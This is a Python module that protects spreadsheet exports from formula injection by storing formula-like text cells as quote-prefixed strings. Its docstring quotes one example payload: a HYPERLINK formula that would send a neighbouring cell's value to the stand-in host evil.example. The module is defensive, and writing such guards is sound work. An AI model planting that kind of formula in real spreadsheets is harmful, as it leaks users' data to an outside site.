"""Text written to a spreadsheet stays text, whoever typed it.

Excel and LibreOffice run a cell that starts with "=", "+", "-" or "@" (and, after a
tab or a carriage return, the same) as a formula. A registration commitment typed as
`=HYPERLINK("http://evil.example/?leak="&B3,"x")` would otherwise reach the office's
export as a live formula that sends the next cell to another site when clicked
(OWASP: CSV and formula injection). Every cell of every export passes `plain_text`:
such text is stored as a string with the quote prefix set. That is what Excel itself
does when one types a leading apostrophe: the text shows exactly as typed, stays text
when the cell is edited, and openpyxl reads it back as text. Numbers, dates and empty
cells are left alone (a negative number is a number, not text).

Workbooks built in memory are guarded as a whole when saved (`workbook_bytes`); the
streamed (write-only) sheets of `sheets.py` cannot be read back, so their rows are
guarded as they are appended (`safe_row`)."""

import io

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_LEADS)


def plain_text(cell: Cell) -> Cell:
    """The one guard: a text cell a spreadsheet could run is written as plain text."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def safe_value(sheet, value):
    """A value ready for a write-only row: risky text becomes a guarded cell, a cell
    built with its own style is guarded, anything else is written as it is (creating
    a cell for every value would slow the largest exports down)."""
    if isinstance(value, Cell):
        return plain_text(value)
    if is_formula_like(value):
        return plain_text(WriteOnlyCell(sheet, value=value))
    return value


def safe_row(sheet, values) -> list:
    return [safe_value(sheet, value) for value in values]


def guard_workbook(book: Workbook) -> None:
    """Every cell of a workbook built in memory (not the write-only kind)."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                plain_text(cell)


def workbook_bytes(book: Workbook) -> bytes:
    """The .xlsx file of an export: the only way exports save a workbook."""
    if not book.write_only:
        guard_workbook(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
